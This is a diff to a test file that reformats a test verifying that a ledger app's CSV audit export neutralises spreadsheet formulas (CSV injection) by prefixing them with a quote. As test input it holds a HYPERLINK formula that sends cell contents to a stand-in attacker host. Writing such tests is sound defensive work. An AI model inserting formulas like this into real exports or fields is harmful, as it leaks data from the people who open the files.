@@ -17,8 +17,17 @@ describe('CSV export neutralises formulas (OWASP CSV injection)', () => {
   it('an actor name starting with = is exported with a leading single quote', async () => {
     ledger = await startLedgerApp();
     const formula = '=HYPERLINK("http://evil.test/?"&A1,"click")';
-    await ledger.as('global-admin', { actor: 'mallory', name: formula }).post('/v1/subscriptions', { skuId: 'E3', name: '+E3', servicePlans: ['EXCHANGE'], seats: 1 }).expect(201);
-    const csv = await ledger.as('auditor').get('/v1/audit/events?actor=mallory').set('Accept', 'text/csv').buffer(true).parse(text).expect(200);
+    await ledger
+      .as('global-admin', { actor: 'mallory', name: formula })
+      .post('/v1/subscriptions', { skuId: 'E3', name: '+E3', servicePlans: ['EXCHANGE'], seats: 1 })
+      .expect(201);
+    const csv = await ledger
+      .as('auditor')
+      .get('/v1/audit/events?actor=mallory')
+      .set('Accept', 'text/csv')
+      .buffer(true)
+      .parse(text)
+      .expect(200);
     const [header, row] = parseCsv(csv.body as string);
     expect(row[header.indexOf('actorName')]).toBe(`'${formula}`);
     // JSON text starts with "{", so data stays machine-readable even when a value inside starts with "+".
